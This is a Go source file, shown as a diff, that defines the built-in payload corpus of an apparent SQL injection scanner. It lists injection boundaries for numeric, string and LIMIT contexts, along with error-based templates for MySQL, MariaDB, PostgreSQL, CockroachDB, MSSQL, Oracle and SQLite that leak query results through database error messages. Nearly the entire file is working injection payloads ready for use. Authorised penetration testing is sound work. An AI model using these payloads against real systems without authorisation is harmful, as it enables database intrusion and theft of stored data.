@@ -0,0 +1,487 @@
+package payloadlib
+
+import "sync"
+
+// blindTechniques share the same boundary set.
+var blindTechniques = []string{TechniqueBoolean, TechniqueTime, TechniqueUnion}
+
+// builtinEntries is the default corpus. Within each kind, entries are listed
+// in the order techniques try them, most likely first. Boundary levels grow
+// the list a scan tries: the plain numeric and single-quoted boundaries at
+// level 1, the other quotes and parentheses at 2 and 3, and the MySQL hash
+// comment at 4 and, for every context, 5.
+var builtinEntries = []Entry{
+	// ------------------------------------------------------------------
+	// Boundaries: boolean-blind, time-based, union-based
+	// ------------------------------------------------------------------
+	{
+		ID:          "bnd.numeric.comment",
+		Kind:        KindBoundary,
+		Techniques:  blindTechniques,
+		Contexts:    []Context{ContextNumeric},
+		Prefix:      "",
+		Suffix:      "-- -",
+		Description: "Numeric context, trailing comment",
+	},
+	{
+		ID:          "bnd.squote.comment",
+		Kind:        KindBoundary,
+		Techniques:  blindTechniques,
+		Contexts:    []Context{ContextString, ContextLike},
+		Prefix:      "'",
+		Suffix:      "-- -",
+		Description: "Single-quoted string, trailing comment",
+	},
+	{
+		ID:          "bnd.dquote.comment",
+		Kind:        KindBoundary,
+		Techniques:  blindTechniques,
+		Contexts:    []Context{ContextString},
+		Prefix:      "\"",
+		Suffix:      "-- -",
+		Level:       2,
+		Description: "Double-quoted string, trailing comment",
+	},
+	{
+		ID:          "bnd.paren.comment",
+		Kind:        KindBoundary,
+		Techniques:  blindTechniques,
+		Contexts:    []Context{ContextNumeric},
+		Prefix:      ")",
+		Suffix:      "-- -",
+		Level:       2,
+		Description: "Parenthesized numeric expression, trailing comment",
+	},
+	{
+		ID:          "bnd.squote-paren.comment",
+		Kind:        KindBoundary,
+		Techniques:  blindTechniques,
+		Contexts:    []Context{ContextString},
+		Prefix:      "')",
+		Suffix:      "-- -",
+		Level:       3,
+		Description: "Parenthesized single-quoted string, trailing comment",
+	},
+
+	// ------------------------------------------------------------------
+	// Boundaries: error-based
+	// ------------------------------------------------------------------
+	{
+		ID:          "bnd.numeric.comment-bare",
+		Kind:        KindBoundary,
+		Techniques:  []string{TechniqueError},
+		Contexts:    []Context{ContextNumeric},
+		Prefix:      "",
+		Suffix:      "-- ",
+		Description: "Numeric context, bare trailing comment",
+	},
+	{
+		ID:          "bnd.squote.comment-bare",
+		Kind:        KindBoundary,
+		Techniques:  []string{TechniqueError},
+		Contexts:    []Context{ContextString, ContextLike},
+		Prefix:      "'",
+		Suffix:      "-- ",
+		Description: "Single-quoted string, bare trailing comment",
+	},
+	{
+		ID:          "bnd.dquote.comment-bare",
+		Kind:        KindBoundary,
+		Techniques:  []string{TechniqueError},
+		Contexts:    []Context{ContextString},
+		Prefix:      "\"",
+		Suffix:      "-- ",
+		Level:       2,
+		Description: "Double-quoted string, bare trailing comment",
+	},
+	{
+		ID:          "bnd.paren.comment-bare",
+		Kind:        KindBoundary,
+		Techniques:  []string{TechniqueError},
+		Contexts:    []Context{ContextNumeric},
+		Prefix:      ")",
+		Suffix:      "-- ",
+		Level:       2,
+		Description: "Parenthesized numeric expression, bare trailing comment",
+	},
+	{
+		ID:          "bnd.squote-paren.comment-bare",
+		Kind:        KindBoundary,
+		Techniques:  []string{TechniqueError},
+		Contexts:    []Context{ContextString},
+		Prefix:      "')",
+		Suffix:      "-- ",
+		Level:       3,
+		Description: "Parenthesized single-quoted string, bare trailing comment",
+	},
+	{
+		ID:          "bnd.numeric.hash",
+		Kind:        KindBoundary,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MySQL"},
+		Contexts:    []Context{ContextNumeric},
+		Prefix:      "",
+		Suffix:      "#",
+		Level:       4,
+		Description: "Numeric context, MySQL hash comment",
+	},
+	{
+		ID:          "bnd.squote.hash",
+		Kind:        KindBoundary,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MySQL"},
+		Contexts:    []Context{ContextString, ContextLike},
+		Prefix:      "'",
+		Suffix:      "#",
+		Level:       4,
+		Description: "Single-quoted string, MySQL hash comment",
+	},
+
+	// ------------------------------------------------------------------
+	// Boundaries: MySQL hash comments, levels 4 and 5
+	// ------------------------------------------------------------------
+	{
+		ID:          "bnd.numeric.hash.blind",
+		Kind:        KindBoundary,
+		Techniques:  blindTechniques,
+		DBMS:        []string{"MySQL"},
+		Contexts:    []Context{ContextNumeric},
+		Prefix:      "",
+		Suffix:      "#",
+		Level:       4,
+		Description: "Numeric context, MySQL hash comment",
+	},
+	{
+		ID:          "bnd.squote.hash.blind",
+		Kind:        KindBoundary,
+		Techniques:  blindTechniques,
+		DBMS:        []string{"MySQL"},
+		Contexts:    []Context{ContextString, ContextLike},
+		Prefix:      "'",
+		Suffix:      "#",
+		Level:       4,
+		Description: "Single-quoted string, MySQL hash comment",
+	},
+	{
+		ID:          "bnd.dquote.hash",
+		Kind:        KindBoundary,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MySQL"},
+		Contexts:    []Context{ContextString},
+		Prefix:      "\"",
+		Suffix:      "#",
+		Level:       5,
+		Description: "Double-quoted string, MySQL hash comment",
+	},
+	{
+		ID:          "bnd.dquote.hash.blind",
+		Kind:        KindBoundary,
+		Techniques:  blindTechniques,
+		DBMS:        []string{"MySQL"},
+		Contexts:    []Context{ContextString},
+		Prefix:      "\"",
+		Suffix:      "#",
+		Level:       5,
+		Description: "Double-quoted string, MySQL hash comment",
+	},
+	{
+		ID:          "bnd.paren.hash",
+		Kind:        KindBoundary,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MySQL"},
+		Contexts:    []Context{ContextNumeric},
+		Prefix:      ")",
+		Suffix:      "#",
+		Level:       5,
+		Description: "Parenthesized numeric expression, MySQL hash comment",
+	},
+	{
+		ID:          "bnd.paren.hash.blind",
+		Kind:        KindBoundary,
+		Techniques:  blindTechniques,
+		DBMS:        []string{"MySQL"},
+		Contexts:    []Context{ContextNumeric},
+		Prefix:      ")",
+		Suffix:      "#",
+		Level:       5,
+		Description: "Parenthesized numeric expression, MySQL hash comment",
+	},
+	{
+		ID:          "bnd.squote-paren.hash",
+		Kind:        KindBoundary,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MySQL"},
+		Contexts:    []Context{ContextString},
+		Prefix:      "')",
+		Suffix:      "#",
+		Level:       5,
+		Description: "Parenthesized single-quoted string, MySQL hash comment",
+	},
+	{
+		ID:          "bnd.squote-paren.hash.blind",
+		Kind:        KindBoundary,
+		Techniques:  blindTechniques,
+		DBMS:        []string{"MySQL"},
+		Contexts:    []Context{ContextString},
+		Prefix:      "')",
+		Suffix:      "#",
+		Level:       5,
+		Description: "Parenthesized single-quoted string, MySQL hash comment",
+	},
+
+	// ------------------------------------------------------------------
+	// Error-based templates
+	// ------------------------------------------------------------------
+	{
+		ID:          "err.mysql.extractvalue",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MySQL"},
+		MinVersion:  "5.1",
+		Name:        "extractvalue",
+		Template:    "extractvalue(1,concat(0x7e,({{.Query}})))",
+		Columns:     1,
+		Description: "XPATH syntax error from EXTRACTVALUE leaks the value after a ~ marker",
+	},
+	{
+		ID:          "err.mysql.updatexml",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MySQL"},
+		MinVersion:  "5.1",
+		Name:        "updatexml",
+		Template:    "updatexml(1,concat(0x7e,({{.Query}})),1)",
+		Columns:     1,
+		Description: "XPATH syntax error from UPDATEXML leaks the value after a ~ marker",
+	},
+	{
+		ID:          "err.mysql.floor-rand",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MySQL"},
+		MinVersion:  "4.1",
+		Name:        "floor-rand",
+		Template:    "(SELECT 1 FROM (SELECT COUNT(*),CONCAT(({{.Query}}),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
+		Columns:     1,
+		Description: "Duplicate entry error from GROUP BY over FLOOR(RAND(0)*2) leaks the value followed by a 0 or 1; for servers without the XML functions",
+	},
+	{
+		ID:          "err.mariadb.extractvalue",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MariaDB"},
+		Name:        "extractvalue",
+		Template:    "extractvalue(1,concat(0x7e,({{.Query}})))",
+		Columns:     1,
+		Description: "XPATH syntax error from EXTRACTVALUE leaks the value after a ~ marker",
+	},
+	{
+		ID:          "err.mariadb.updatexml",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MariaDB"},
+		Name:        "updatexml",
+		Template:    "updatexml(1,concat(0x7e,({{.Query}})),1)",
+		Columns:     1,
+		Description: "XPATH syntax error from UPDATEXML leaks the value after a ~ marker",
+	},
+	{
+		ID:          "err.mariadb.extractvalue-seq",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MariaDB"},
+		MinVersion:  "10.0",
+		Name:        "extractvalue-seq",
+		Template:    "extractvalue(1,concat(0x7e,(SELECT ({{.Query}}) FROM seq_1_to_1)))",
+		Columns:     1,
+		Description: "EXTRACTVALUE with the value selected from the Sequence engine's seq_1_to_1 table, which only MariaDB has",
+	},
+	{
+		ID:          "err.postgresql.cast",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"PostgreSQL"},
+		Name:        "cast",
+		Template:    "CAST(({{.Query}}) AS INT)",
+		Columns:     1,
+		Description: "Invalid integer cast error echoes the value",
+	},
+	{
+		ID:          "err.postgresql.cast-numeric",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"PostgreSQL"},
+		Name:        "cast-numeric",
+		Template:    "CAST(chr(126)||({{.Query}})||chr(126) AS NUMERIC)",
+		Columns:     1,
+		Description: "Invalid numeric cast error echoes the value between ~ markers, which also delimit empty and numeric-looking values",
+	},
+	{
+		ID:          "err.postgresql.query-to-xml",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"PostgreSQL"},
+		MinVersion:  "8.3",
+		Name:        "query-to-xml",
+		Template:    "CAST(query_to_xml($$SELECT ({{.Query}}) AS sqleech$$,true,true,$$$$)::text AS INT)",
+		Columns:     1,
+		Description: "query_to_xml wraps the value in a <sqleech> element, dollar-quoted so the query needs no escaping; the integer cast of the XML echoes it",
+	},
+	{
+		ID:          "err.cockroachdb.cast",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"CockroachDB"},
+		Name:        "cast",
+		Template:    "CAST(({{.Query}}) AS INT)",
+		Columns:     1,
+		Description: "Integer parse error (could not parse \"...\" as type int) echoes the value",
+	},
+	{
+		ID:          "err.cockroachdb.cast-numeric",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"CockroachDB"},
+		Name:        "cast-numeric",
+		Template:    "CAST(chr(126)||({{.Query}})||chr(126) AS NUMERIC)",
+		Columns:     1,
+		Description: "Decimal parse error echoes the value between ~ markers; CockroachDB has no query_to_xml",
+	},
+	{
+		ID:          "err.mssql.convert",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MSSQL"},
+		Name:        "convert",
+		Template:    "CONVERT(INT,({{.Query}}))",
+		Columns:     1,
+		Description: "Type-conversion error from CONVERT echoes the value",
+	},
+	{
+		ID:          "err.mssql.cast",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MSSQL"},
+		Name:        "cast",
+		Template:    "CAST(({{.Query}}) AS INT)",
+		Columns:     1,
+		Description: "Type-conversion error from CAST echoes the value",
+	},
+	{
+		ID:          "err.oracle.ctxsys",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"Oracle"},
+		Name:        "ctxsys",
+		Template:    "1=CTXSYS.DRITHSX.SN(1,CHR(126)||({{.Query}})||CHR(126))",
+		Columns:     1,
+		Description: "Oracle Text error for an unknown thesaurus echoes the value between ~ markers",
+	},
+	{
+		ID:          "err.oracle.utl_inaddr",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"Oracle"},
+		Name:        "utl_inaddr",
+		Template:    "1=UTL_INADDR.GET_HOST_NAME(CHR(126)||({{.Query}})||CHR(126))",
+		Columns:     1,
+		Description: "Host lookup error from UTL_INADDR echoes the value between ~ markers; on 11g and later it needs a network ACL grant",
+	},
+	{
+		ID:          "err.oracle.xmltype",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"Oracle"},
+		Name:        "xmltype",
+		Template:    "XMLType('<x>'||({{.Query}})||'</x>')",
+		Description: "XML parsing error from XMLType echoes the value",
+	},
+	{
+		ID:          "err.sqlite.cast",
+		Kind:        KindErrorTemplate,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"SQLite"},
+		Name:        "cast",
+		Template:    "CAST(({{.Query}}) AS integer)",
+		Description: "Integer cast; SQLite rarely reports the value, kept for completeness",
+	},
+
+	// ------------------------------------------------------------------
+	// Expressions: LIMIT/OFFSET
+	// ------------------------------------------------------------------
+	// Nothing but OFFSET may follow a LIMIT value and it takes no boolean,
+	// so these replace the value rather than append to it. UNION after
+	// LIMIT is no way out either: MySQL rejects it unparenthesized and
+	// PostgreSQL outright.
+	{
+		ID:          "expr.limit.case",
+		Kind:        KindExpression,
+		Techniques:  []string{TechniqueBoolean, TechniqueTime},
+		DBMS:        []string{"PostgreSQL", "SQLite"},
+		Contexts:    []Context{ContextLimit},
+		Template:    "(CASE WHEN ({{.Query}}) THEN {{.Value}} WHEN {{.Value}}=0 THEN 1 ELSE 0 END)",
+		Description: "LIMIT/OFFSET expression: the original value when the condition holds, a different row count otherwise",
+	},
+	{
+		ID:          "expr.limit.error",
+		Kind:        KindExpression,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"PostgreSQL", "MSSQL"},
+		Contexts:    []Context{ContextLimit},
+		Template:    "{{.Query}}",
+		Description: "Error template as the LIMIT/OFFSET value itself; its integer cast fails with the value in the message",
+	},
+	{
+		ID:          "expr.limit.mysql.procedure-analyse",
+		Kind:        KindExpression,
+		Techniques:  []string{TechniqueError},
+		DBMS:        []string{"MySQL"},
+		Contexts:    []Context{ContextLimit},
+		MaxVersion:  "5.7.99",
+		Template:    "{{.Value}} PROCEDURE ANALYSE({{.Query}},1)",
+		Description: "Error template as a PROCEDURE ANALYSE argument after the LIMIT value; MySQL LIMIT takes only literals, and 8.0 dropped ANALYSE",
+	},
+}
+
+var (
+	defaultOnce   sync.Once
+	defaultCorpus *Corpus
+)
+
+// Default returns the built-in corpus. It is shared and must not be
+// modified; use Clone to extend it.
+func Default() *Corpus {
+	defaultOnce.Do(func() {
+		c, err := New(builtinEntries...)
+		if err != nil {
+			panic("payloadlib: invalid built-in corpus: " + err.Error())
+		}
+		defaultCorpus = c
+	})
+	return defaultCorpus
+}
+
+// DefaultFilter returns the filter a default scan applies for the given
+// technique and DBMS: default risk and level, any context.
+func DefaultFilter(kind Kind, technique, dbms string) Filter {
+	return ScanFilter(kind, technique, dbms, DefaultLevel, DefaultRisk)
+}
+
+// ScanFilter returns the filter a scan at the given level and risk applies
+// for the technique and DBMS, any context. A level or risk below 1 is the
+// default one.
+func ScanFilter(kind Kind, technique, dbms string, level, risk int) Filter {
+	if level < 1 {
+		level = DefaultLevel
+	}
+	if risk < 1 {
+		risk = DefaultRisk
+	}
+	return Filter{
+		Kind:      kind,
+		Technique: technique,
+		DBMS:      dbms,
+		MaxRisk:   risk,
+		MaxLevel:  level,
+	}
+}